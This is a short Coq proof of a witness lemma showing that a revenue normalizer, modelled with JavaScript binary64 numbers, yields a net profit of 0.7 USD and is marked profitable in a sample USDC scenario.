Lemma C6_profitable_witness :
  exists out,
    @RevenueNormalizer.execute JsNum.Binary64
      (Scenario.oracle JsNum.Binary64 1000 1 "USDC") (Scenario.library JsNum.Binary64)
      Profit.modest = Ok out
    /\ RevenueNormalizer.netProfitUSD out = @JsNum.lit JsNum.Binary64 (7 # 10)
    /\ (0 < RevenueNormalizer.netProfitUSD out)%Q
    /\ RevenueNormalizer.isProfitable out = true.
Proof.
  eexists.
  match goal with |- ?call = Ok ?r /\ _ =>
    assert (H : call = Ok r) by (vm_compute; reflexivity)
  end.
  split; [ exact H | ].
  split; [ vm_compute; reflexivity | ].
  assert (Hpos : forall x : Q, x = @JsNum.lit JsNum.Binary64 (7 # 10) -> (0 < x)%Q)
    by (intros x ->; vm_compute; reflexivity).
  split; [ apply Hpos; vm_compute; reflexivity | ].
  destruct (C6_profitable_iff_unrounded_profit_positive JsNum.Binary64 _ _ _ _ H)
    as (_ & _ & _ & Hdoubles).
  destruct (Hdoubles false eq_refl) as (_ & _ & Hprofitable & _).
  apply Hprofitable. apply Hpos. vm_compute. reflexivity.
Defined.
